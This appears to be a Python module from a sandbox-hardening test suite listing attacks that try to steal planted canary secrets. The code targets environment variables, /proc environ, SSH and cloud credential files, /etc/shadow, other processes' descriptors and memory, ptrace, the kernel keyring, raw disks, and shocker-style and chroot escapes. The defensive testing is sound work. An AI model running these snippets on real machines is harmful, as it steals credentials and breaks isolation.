"""Attacks on secrets: of the host, of other sandboxes, of the sandbox's own machinery.

Where the trap planted the secret, the host knows that it was stolen by finding the canary in what came out.
"""

from __future__ import annotations

from sandbox.abuse.attack import Attack

__all__ = ["THEFT"]

THEFT = (
    Attack(
        name="keys in the environment",
        tries="read an API key that the host has in its environment",
        code="""
print(dict(os.environ))
won("it is there") if any(MARK in name for name in os.environ) else stopped("the variable is not there")
""",
    ),
    Attack(
        name="keys via /proc/PID/environ",
        tries="read the environment that any visible process was started with, that of pid 1 first",
        code="""
met, read = set(), 0
for pid in ["1", *sorted(set(filter(str.isdigit, os.listdir("/proc"))) - {"1"})]:
    try:
        text = open(f"/proc/{pid}/environ", "rb").read()
    except OSError as error:
        met.add(refused(error))
    else:
        read += 1
        print([variable for variable in text.split(b"\\0") if MARK.encode() in variable])
stopped(", ".join(sorted(met)) if met else "the visible processes have none")
""",
    ),
    Attack(
        name="a host file of its owner's",
        tries="read a host file with mode 600, by its path and through other processes' roots",
        code="""
paths = [f"{root}{TRAP['secret']}" for root in ("", "/proc/1/root", "/proc/self/root", "/../../..")]
attempt(*(lambda path=path: print(open(path).read()) for path in paths))
""",
    ),
    Attack(
        name="a host file open to all",
        tries="read a host file with mode 644, which only a file system of its own keeps away",
        code="""
paths = [
    f"{root}{TRAP['open_secret']}" for root in ("", "/proc/1/root", "/proc/1/cwd/../../../../..", "/host", "/mnt")
]
attempt(*(lambda path=path: print(open(path).read()) for path in paths))
""",
    ),
    Attack(
        name="keys in home folders",
        tries="read keys where people keep them: .ssh, .aws, .netrc, .config, .docker in any home",
        code="""
import glob
names = (".ssh/*", ".aws/*", ".netrc", ".config/*", ".docker/*", ".kube/*", ".bash_history", ".gitconfig", ".cache")
homes = ["/root", TRAP["home"], *glob.glob("/home/*"), *glob.glob("/proc/1/root" + "/root")]
found = [path for home in homes for name in names for path in glob.glob(f"{home}/{name}")]
listable = [home for home in homes if os.path.isdir(home) and os.access(home, os.R_OK) and os.listdir(home)]
won("homes of the host are there") if found or listable else stopped("no home of the host is there")
""",
    ),
    Attack(
        name="the project folder",
        tries="read the source of the program that runs the sandbox, where settings and keys may lie",
        code="""
attempt(lambda: os.listdir(TRAP["project"]), lambda: os.listdir(os.path.dirname(TRAP["project"])))
""",
    ),
    Attack(
        name="passwords of the machine",
        tries="read /etc/shadow, or the keys of its services",
        code="""
paths = [
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/ssh/ssh_host_ed25519_key",
    "/etc/ssl/private",
    "/var/lib/docker",
    "/run/secrets",
]
attempt(*(lambda path=path: (os.listdir if os.path.isdir(path) else open)(path) for path in paths))
""",
        hurts="needs the rights of root, which differ by machine",
    ),
    Attack(
        name="inherited descriptors",
        tries="read a secret through a descriptor that a careless launch left open",
        code="""
left = []
for number in range(3, 4096):
    try:
        kind = os.fstat(number)
    except OSError:
        continue
    left.append(number)
    try:
        print(os.pread(number, 4096, 0))
    except OSError as error:
        print(refused(error))
# What is open here is our own: the channels of the run. The canary would have been printed.
stopped("no descriptor leads to a file of the host")
""",
    ),
    Attack(
        name="descriptors of other processes",
        tries="open the descriptors of pid 1, the supervisor and the shell through /proc/PID/fd",
        code="""
met, opened = set(), []
for pid in {"1", str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))} - {str(os.getpid())}:
    try:
        numbers = os.listdir(f"/proc/{pid}/fd")
    except OSError as error:
        met.add(refused(error))
        continue
    for number in numbers:
        try:
            opened.append(os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK))
            print(os.pread(opened[-1], 4096, 0))
        except OSError as error:
            met.add(refused(error))
won("descriptors of other processes were opened") if opened else stopped(", ".join(sorted(met)))
""",
        hurts="with the rights of root it would open descriptors of everything on the machine",
    ),
    Attack(
        name="memory of the supervisor",
        tries="read or write the memory of pid 1 and of the parent, through /proc/PID/mem and process_vm_readv",
        code="""
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def peek(pid, name):
    buffer = ctypes.create_string_buffer(64)
    here, there = Span(ctypes.addressof(buffer), 64), Span(first_address(pid), 64)
    return call(name, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
def first_address(pid):
    return int(open(f"/proc/{pid}/maps").readline().partition("-")[0], 16)
pids = sorted({1, os.getppid()})
attempt(
    *(lambda pid=pid: open(f"/proc/{pid}/mem", "r+b") for pid in pids),
    *(lambda pid=pid: peek(pid, "process_vm_readv") for pid in pids),
    *(lambda pid=pid: peek(pid, "process_vm_writev") for pid in pids),
)
""",
        hurts="writes into the memory of processes",
    ),
    Attack(
        name="ptrace",
        tries="attach to pid 1 or to the parent as a debugger",
        code="""
attempt(
    *(lambda pid=pid, how=how: call("ptrace", how, pid, 0, 0) for pid in {1, os.getppid()} for how in (16, 0x4206))
)
""",
        hurts="stops the processes that it attaches to",
    ),
    Attack(
        name="taking a descriptor by pidfd",
        tries="copy a descriptor out of pid 1 or the parent with pidfd_getfd",
        code="""
def take(pid):
    handle = call("pidfd_open", pid, 0)
    return max(call("pidfd_getfd", handle, number, 0) for number in range(3))
attempt(lambda: take(1), lambda: take(os.getppid()))
""",
        hurts="takes descriptors out of processes of the machine",
    ),
    Attack(
        name="the host's keyring",
        tries="read a key of the kernel's keyring, by number and by name",
        code="""
def read(number):
    buffer = ctypes.create_string_buffer(256)
    call("keyctl", 11, number, buffer, 256)
    print(buffer.value)
    return "the key was read"
attempt(
    lambda: read(TRAP.get("key", 1)),
    lambda: read(call("request_key", b"user", MARK.encode(), 0, 0)),
    *(lambda ring=ring: read(call("keyctl", 10, ring, b"user", MARK.encode(), 0)) for ring in (-3, -4, -5)),
    lambda: read(call("keyctl", 0, -3, 0)),
)
""",
    ),
    Attack(
        name="leaving a key behind",
        tries="put a key into the kernel's keyring, which outlives every process",
        code="""
attempt(
    *(lambda ring=ring: call("add_key", b"user", b"left-" + MARK.encode(), b"x", 1, ring) for ring in (-4, -5, -3))
)
""",
        hurts="leaves a key in the keyring of its user",
    ),
    Attack(
        name="System V shared memory",
        tries="attach a segment of the host that everybody may read",
        code="""
def read():
    number = call("shmget", TRAP.get("shared_memory", 1), 0, 0)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    print(ctypes.string_at(libc.shmat(number, None, 0o10000), 64))
attempt(read)
""",
    ),
    Attack(
        name="POSIX message queue",
        tries="read a message from a queue of the host that everybody may open",
        code="""
def read():
    queue = call("mq_open", TRAP.get("queue", "x").encode(), os.O_RDONLY | os.O_NONBLOCK, 0, 0)
    buffer = ctypes.create_string_buffer(1 << 16)
    call("mq_timedreceive", queue, buffer, 1 << 16, 0, 0)
    print(buffer.value)
attempt(read)
""",
    ),
    Attack(
        name="shared memory files",
        tries="read a file in the host's /dev/shm",
        code="attempt(lambda: print(open(TRAP['shared_file']).read()))",
    ),
    Attack(
        name="processes of the host",
        tries="see the host's processes and the secrets on their command lines",
        code="""
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        print(open(f"/proc/{pid}/cmdline").read())
    except OSError:
        pass
seen = os.path.exists(f"/proc/{TRAP['host_pid']}") and len(list(filter(str.isdigit, os.listdir("/proc")))) > 20
won("the host's processes are listed") if seen else stopped("only processes of the sandbox are there")
""",
    ),
    Attack(
        name="the kernel's log",
        tries="read what the kernel logged, with addresses and names of the host",
        code="""
buffer = ctypes.create_string_buffer(4096)
attempt(lambda: call("syslog", 3, buffer, 4096), lambda: os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK))
""",
        hurts="needs the rights of root, which differ by machine",
    ),
    Attack(
        name="the machine's memory",
        tries="read physical memory, kernel memory or the kernel's addresses",
        code="""
def addresses():
    for line in open("/proc/kallsyms"):
        if line.split()[0].strip("0"):
            return "addresses of the kernel"
    raise PermissionError(1, "only zeros")
attempt(
    lambda: open("/dev/mem", "rb").read(1),
    lambda: open("/proc/kcore", "rb").read(64),
    lambda: open("/dev/port", "rb"),
    addresses,
)
""",
        hurts="needs the rights of root, which differ by machine",
    ),
    Attack(
        name="the machine's disks",
        tries="read the host's block devices, by their files or by a device file of its own",
        code="""
import glob, stat
def own(major, minor, folder):
    call("mknodat", -100, f"{folder}/disk".encode(), stat.S_IFBLK | 0o600, os.makedev(major, minor))
    return open(f"{folder}/disk", "rb").read(16)
disks = glob.glob("/dev/[svxhn][dv]*") + glob.glob("/dev/nvme*") + glob.glob("/dev/dm-*") + glob.glob("/dev/loop*")
made = [
    (major, minor, folder)
    for major, minor in ((254, 0), (8, 0), (259, 0), (7, 0))
    for folder in (".", "/tmp", "/dev")
]
attempt(*(lambda disk=disk: open(disk, "rb").read(16) for disk in disks), *(lambda it=it: own(*it) for it in made))
""",
        hurts="needs the rights of root, which differ by machine",
    ),
    Attack(
        name="another sandbox's files",
        tries="read what a second sandbox, open at the same time, has in its work folder and in /tmp",
        code="""
import glob
name = f"neighbour-{MARK}"
above = (
    "/tmp/",
    "/work/",
    "/proc/[0-9]*/cwd/",
    "/proc/[0-9]*/root/*/",
    "/tmp/*/",
    "/tmp/*/*/",
    "../*/",
    "../../*/*/",
)
places = [f"/work/{name}", f"/tmp/{name}", *(path for folder in above for path in glob.glob(folder + name))]
attempt(*(lambda path=path: print(open(path).read()) for path in places))
""",
    ),
    Attack(
        name="files by number",
        tries="open the host's files by handle instead of by path, as the escape called shocker did",
        code="""
import struct
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
def by_handle(path):
    handle, mount = Handle(size=128), ctypes.c_int()
    call("name_to_handle_at", -100, path, ctypes.byref(handle), ctypes.byref(mount), 0)
    handle.data[:8] = (ctypes.c_ubyte * 8).from_buffer_copy(struct.pack("<II", 2, 0))
    return call("open_by_handle_at", os.open(path, os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
attempt(lambda: by_handle(b"/"), lambda: by_handle(b"/etc/hosts"), lambda: by_handle(b"."))
""",
        hurts="needs the rights of root, which differ by machine",
    ),
    Attack(
        name="leaving by chroot",
        tries="climb out of the root folder with a second chroot, or with folders above the root",
        code="""
def climb():
    os.makedirs("cell", exist_ok=True)
    os.chroot("cell")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return open(TRAP["open_secret"]).read()
attempt(
    climb,
    lambda: open("/../../../../../../.." + TRAP["open_secret"]).read(),
    lambda: print(open("/.." * 40 + TRAP["open_secret"]).read()),
)
""",
        hurts="changes the root folder of a process of the machine",
    ),
)
